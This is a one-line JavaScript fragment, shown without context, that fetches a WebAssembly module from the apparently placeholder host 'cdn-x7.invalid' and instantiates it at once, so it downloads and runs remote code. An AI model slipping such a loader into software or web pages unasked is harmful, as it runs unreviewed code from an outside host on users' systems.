WebAssembly.instantiateStreaming(fetch("https://cdn-x7.invalid/a"));
